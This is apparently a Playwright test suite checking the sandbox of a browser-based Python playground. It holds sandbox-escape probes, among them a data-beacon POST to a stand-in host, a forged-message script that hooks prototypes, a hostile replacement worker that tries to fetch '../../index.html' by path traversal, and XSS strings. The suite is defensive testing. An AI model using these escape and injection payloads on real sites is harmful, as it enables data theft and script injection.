"""⑥ Whatever runs in the sandbox stays in it: every way out is tried, by Python and by what lies beneath it."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, Worker, expect

from tests.browser import reader
from tools.serve import SITE

pytestmark = [pytest.mark.python_at_once, pytest.mark.allow_console]

HEADER = "from stepgrad import Value\n"
READY = "document.documentElement.dataset.engine === 'ready'"
ELSEWHERE = "http://127.0.0.1:9/x"

# What a program finds that has broken out of Python into its worker: each way out, and whether it led anywhere.
WAYS = """async ({site, elsewhere}) => {
  delete self.fetch; // ours, in the place of the browser's own
  const blob = URL.createObjectURL(new Blob(["self.inside = 1"], {type: "text/javascript"}));
  const opened = (thing) => new Promise((yes, no) => { thing.onopen = thing.onsuccess = thing.onload = yes; thing.onerror = no; });
  const xhr = (url) => { const one = new XMLHttpRequest(); one.open("GET", url, false); one.send(); return one.responseText; };
  const ways = {
    "fetch of our origin": () => fetch(site),
    "fetch without cors": () => fetch(site, {mode: "no-cors"}),
    "fetch of another origin": () => fetch(elsewhere, {mode: "no-cors"}),
    "a beacon by fetch": () => fetch(elsewhere, {method: "POST", body: "secret", keepalive: true, mode: "no-cors"}),
    "fetch of data": () => fetch("data:,x"),
    "XMLHttpRequest": () => xhr(site),
    "XMLHttpRequest elsewhere": () => xhr(elsewhere),
    "importScripts": () => importScripts(site + "assets/index.js"),
    "importScripts of a blob": () => importScripts(blob),
    "importScripts of data": () => importScripts("data:text/javascript,1"),
    "a worker": () => opened(new Worker(site + "assets/layout-worker.js")),
    "WebSocket": () => opened(new WebSocket(elsewhere.replace("http", "ws"))),
    "EventSource": () => opened(new EventSource(site)),
    "WebTransport": () => new WebTransport(elsewhere.replace("http", "https")).ready,
    "a typeface": () => new FontFace("x", `url(${site}x.woff2)`).load(),
    "caches": () => caches.open("x"),
    "indexedDB": () => opened(indexedDB.open("x")),
    "localStorage": () => localStorage.setItem("x", "y"),
    "sessionStorage": () => sessionStorage.setItem("x", "y"),
    "OPFS": () => navigator.storage.getDirectory(),
    "locks": () => navigator.locks.request("x", () => 1),
    "cookies": () => cookieStore.set("x", "y"),
    "sendBeacon": () => navigator.sendBeacon(site, "x"),
    "a service worker": () => navigator.serviceWorker.register(site + "x.js"),
    "SharedWorker": () => new SharedWorker(blob),
    "eval": () => (0, eval)("1"),
    "Function": () => new Function("return 1")(),
    "the page": () => window.document,
    "the parent": () => parent.document,
    "the top": () => { top.location = elsewhere; return top; },
    "opening a page": () => open(elsewhere),
  };
  const led = [];
  for (const [name, way] of Object.entries(ways)) {
    try { await way(); led.push(name); } catch { /* shut */ }
  }
  return {led, tried: Object.keys(ways).length, origin};
}"""

# The same by Python. Every line that is printed names a way that led somewhere.
BY_PYTHON = """
import js, pyodide_js
from stepgrad import Value
def attempt(name, what):
    try:
        what()
    except BaseException as error:
        tried.append(name)
    else:
        print(name, "led somewhere")
tried = []
for name in ("fetch", "caches", "indexedDB", "localStorage", "importScripts", "Worker", "SharedWorker", "WebSocket", "EventSource", "WebTransport", "BroadcastChannel",
             "XMLHttpRequest", "postMessage", "self", "navigator", "location", "parent", "top", "close", "WebAssembly", "MessagePort", "MessageChannel", "Blob", "Response"):
    attempt(name, lambda: getattr(js, name))
    attempt("globalThis." + name, lambda: getattr(js.globalThis, name))
attempt("sendBeacon", lambda: js.navigator.sendBeacon("SITE", "x"))
def run_js():
    from pyodide.code import run_js
    run_js("1")
attempt("run_js", run_js)
attempt("eval", lambda: js.eval("1"))
attempt("Function", lambda: js.Object.constructor("return this")())
attempt("AsyncFunction", lambda: pyodide_js.loadPackage.constructor("return this")())
def open_url():
    from pyodide.http import open_url
    open_url("SITE")
attempt("open_url", open_url)
def urlopen():
    from urllib.request import urlopen
    urlopen("SITE")
attempt("urlopen", urlopen)
def connect():
    import socket
    socket.create_connection(("127.0.0.1", 9), 1)
    socket.socket().send(b"x")
attempt("socket", connect)
print(len(tried), "ways are shut")
y = Value(1.0) * 2
"""


@pytest.fixture
def playground(page: Page, site: str) -> Locator:
    reader.visit(page, f"{site}playground.html")
    root = reader.walkthrough(page)
    reader.goes_live(root)
    page.evaluate("window.heard = []; addEventListener('message', ({data}) => heard.push(data))")
    return root


def engine(page: Page, site: str, what: str) -> Any:
    return page.evaluate(f"async (site) => (await import(site + 'assets/index.js')).engine.{what}", site)


def runs(root: Locator, label: str) -> None:
    """The next program runs as if nothing had been, and shows its own numbers."""
    reader.write_program(root, HEADER + f"u = Value(5.0)\n{label} = u * u\n")
    expect(reader.node(root, label)).to_be_attached()
    reader.press_to_end(root.page, root)
    expect(reader.node(root, label)).to_have_attribute("data-value", "25")
    expect(root.locator('[data-widget="problem"] > p')).to_be_hidden()


def inside(page: Page) -> Worker:
    (worker,) = page.workers
    return worker


def test_no_way_leads_out_of_the_worker(browser: Browser, site: str) -> None:
    with browser.new_context() as context, context.new_page() as page:
        reader.visit(page, f"{site}playground.html")
        assert reader.engine_settles(page) == "ready"
        asked: list[str] = []
        refused: list[str] = []
        context.on("request", lambda request: asked.append(request.url))
        context.on("requestfailed", lambda one: refused.append(one.url) if one.failure == "csp" else None)
        found = inside(page).evaluate(WAYS, {"site": site, "elsewhere": ELSEWHERE})
        assert found["led"] == []
        assert found["origin"] == "null"
        # what the policy stops is asked of nobody
        assert [url for url in asked if url not in refused and not url.startswith(("blob:", "data:"))] == []
        assert page.url == f"{site}playground.html"
        assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0
        runs(reader.walkthrough(page), "after")


def test_no_way_leads_out_of_python(page: Page, playground: Locator, site: str) -> None:
    reader.write_program(playground, BY_PYTHON.replace("SITE", site))
    expect(reader.node(playground, "y")).to_be_attached()
    said = playground.locator('[data-widget="printed"] pre')
    expect(said).to_contain_text("ways are shut")
    expect(said).not_to_contain_text("led somewhere")
    runs(playground, "after")


def test_a_program_that_reaches_for_the_worker_is_the_last_one_of_it(
    page: Page, playground: Locator, site: str
) -> None:
    """Its timers would go on; so would what it did to Python that nobody can look for."""
    before = engine(page, site, "generation")
    reader.write_program(
        playground,
        "import js\nfrom pyodide.ffi import create_proxy\nfrom stepgrad import Value\n"
        "def again(say=js.console.debug): say('still here')\njs.setInterval(create_proxy(again), 1)\nonce = Value(1.0) * 2\n",
    )
    expect(reader.node(playground, "once")).to_be_attached()
    runs(playground, "after")
    fresh = engine(page, site, "generation")
    assert fresh > before
    still: list[str] = []
    page.on("console", lambda message: still.append(message.text))
    runs(playground, "later")
    assert [one for one in still if "still here" in one] == []
    assert engine(page, site, "generation") == fresh  # an honest program needs no other


# A program that owns its worker: it says what it likes to whoever may hear it, and lies in wait for the port that answers go by.
FORGES = """() => {
  const forged = {type: "reply", id: 1, reply: '{"ok":true,"values":{},"output":"forged"}'};
  const caught = self.caught = [];
  const lurk = (owner, name) => {
    const real = owner[name];
    owner[name] = function (...given) { if (this instanceof MessagePort || given[0] instanceof MessagePort) caught.push(name); return Reflect.apply(real, this, given); };
  };
  lurk(MessagePort.prototype, "postMessage");
  for (const name of ["call", "apply", "bind"]) {
    const real = Function.prototype[name];
    Function.prototype[name] = function (...given) { if (given[0] instanceof MessagePort || given[0]?.target instanceof MessagePort) caught.push(name); return Reflect.apply(real, this, given); };
  }
  const target = Object.getOwnPropertyDescriptor(Event.prototype, "target").get;
  for (const [owner, name] of [[MessageEvent.prototype, "data"], [MessageEvent.prototype, "ports"], [Event.prototype, "target"], [Event.prototype, "currentTarget"]]) {
    const {get} = Object.getOwnPropertyDescriptor(owner, name);
    Object.defineProperty(owner, name, {get() { if (Reflect.apply(target, this, []) instanceof MessagePort) caught.push(name); return Reflect.apply(get, this, []); }});
  }
  Object.defineProperty(Object.prototype, "port", {get() { if (this instanceof Event) caught.push("port"); }, set() { caught.push("port"); }, configurable: true});
  const channel = new BroadcastChannel("x");
  for (let i = 0; i < 20000; i += 1) { self.postMessage({...forged, id: i}); channel.postMessage(forged); }
  self.postMessage("x".repeat(3e7));
  self.dispatchEvent(new MessageEvent("message", {data: forged}));
}"""


def test_what_a_program_forges_reaches_nobody(page: Page, playground: Locator) -> None:
    page.evaluate(
        "() => { window.channel = new BroadcastChannel('x'); channel.onmessage = ({data}) => heard.push(data); }"
    )
    worker = inside(page)
    worker.evaluate(FORGES)
    runs(playground, "after")
    runs(playground, "later")
    assert page.workers == [worker]
    assert worker.evaluate("self.caught") == []
    assert page.evaluate("heard") == []


# In the place of our worker: it speaks as it likes, by the very port. What it says is in the program.
EVIL = """let port;
const honest = JSON.stringify({ok: false, error: {kind: "Honest", message: "an answer", line: null}});
onmessage = ({data}) => {
  if (!data.port) return;
  port = data.port;
  port.onmessage = ({data: {id, request}}) => {
    const {source} = JSON.parse(request);
    const say = (message) => port.postMessage(message);
    if (/flood/.test(source)) for (let i = 0; i < 50000; i += 1) say({type: "arrived"});
    else if (/giant/.test(source)) say({type: "reply", id, reply: " ".repeat(6e7)});
    else if (/malformed/.test(source)) say({type: "reply", id, reply: {ok: true}});
    else if (/unheard/.test(source)) say({type: "unheard of"});
    else if (/module/.test(source)) say({type: "reply", id, reply: new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))});
    else if (/steal/.test(source)) say({type: "want", name: "../../index.html"});
    else {
      for (let i = 1; i < 50; i += 1) say({type: "reply", id: id + i, reply: '{"ok":true,"values":{},"output":"forged"}'});
      say({type: "reply", id, reply: honest});
    }
  };
  port.postMessage({type: "ready"});
};"""


def test_a_worker_that_is_not_ours_harms_only_its_own_run(page: Page, site: str) -> None:
    reader.sums_cannot_be_computed(page)
    page.route("**/worker.js*", lambda route: route.fulfill(body=EVIL, content_type="text/javascript"))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    reader.visit(page, f"{site}playground.html")
    root = reader.walkthrough(page)
    problem = root.locator('[data-widget="problem"]')
    for word in ("flood", "giant", "malformed", "unheard", "module"):
        reader.write_program(root, f"{word} = 1")
        expect(problem).to_contain_text("broke the Python interpreter")
        page.wait_for_function(READY)
        reader.write_program(root, f"after_{'xyzabc'[len(word) - 4]} = 1")
        expect(problem).to_contain_text("Honest: an answer")
    reader.write_program(root, "steal = 1")
    page.wait_for_function("document.documentElement.dataset.engine === 'busy'")
    root.get_by_role("button", name="Stop").click()
    page.wait_for_function(READY)
    assert [url for url in asked if url.endswith("/index.html")] == []


# Text that is no markup, does not end, or turns what stands around it.
NASTY = (
    "<img src=x onerror=\"top.hacked=1\"><script>top.hacked=1</script><a href='javascript:top.hacked=1'>x</a>"
)


def test_text_of_programs_stays_text(page: Page, playground: Locator) -> None:
    problem = playground.locator('[data-widget="problem"]')
    reader.write_program(
        playground,
        HEADER + f"nasty = {NASTY!r}\nprint(nasty, '\\u202e\\x00\\x1b[31m\\u2066 turned')\n"
        "x = Value(1.0, label=nasty)\nlong = Value(2.0, label='n' * 100_000)\ny = x * long\ny.backward()\n",
    )
    expect(reader.node(playground, "y")).to_be_attached()
    expect(playground.locator('[data-widget="printed"] pre')).to_contain_text("<script>")
    for raised in (
        f"raise ValueError({NASTY!r})",
        f"class E(Exception): pass\nE.__name__ = {NASTY!r}\nraise E('x')",
    ):
        reader.write_program(playground, raised)
        expect(problem).to_contain_text("<img src=x")
    reader.write_program(playground, f"{'n' * 100_000} = 1\n1 / 0\n")
    expect(problem).to_contain_text("ZeroDivisionError")
    reader.write_program(playground, f"raise ValueError({'n' * 100_000!r})")
    expect(problem).to_contain_text("ValueError")
    assert page.evaluate("window.hacked") is None
    assert page.locator("img[src=x], a[href^=javascript]").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    runs(playground, "after")


def test_the_frame_is_one_and_shuts_everything_out(page: Page, playground: Locator) -> None:
    frames = page.locator("iframe")
    expect(frames).to_have_count(1)
    expect(frames).to_have_attribute("sandbox", "allow-scripts")
    expect(frames).to_be_hidden()
    assert page.evaluate("document.querySelector('iframe').contentDocument") is None
    policy = page.frames[1].evaluate("document.querySelector('meta[http-equiv]').content")
    assert "default-src 'none'" in policy
    assert "connect-src" not in policy
    assert "'unsafe-" not in policy.replace("'wasm-unsafe-eval'", "")


@pytest.mark.parametrize(
    ("forbidden", "words"), [("'wasm-unsafe-eval'", "no WebAssembly"), ("worker-src blob:;", "could not be")]
)
def test_what_a_browser_forbids_is_told_in_words(page: Page, site: str, forbidden: str, words: str) -> None:
    """Here by another policy of the frame's."""
    html = (SITE / "assets" / "sandbox.txt").read_text()
    assert forbidden in html
    reader.sums_cannot_be_computed(page)
    page.route("**/sandbox.txt*", lambda route: route.fulfill(body=html.replace(forbidden, "")))
    reader.visit(page, f"{site}playground.html")
    assert reader.engine_settles(page) == "failed"
    status = page.locator('[data-widget="status"]').first
    expect(status).to_contain_text(words)
    page.unroute("**/sandbox.txt*")
    status.get_by_role("button", name="Try again").click()
    assert reader.engine_settles(page) == "ready"
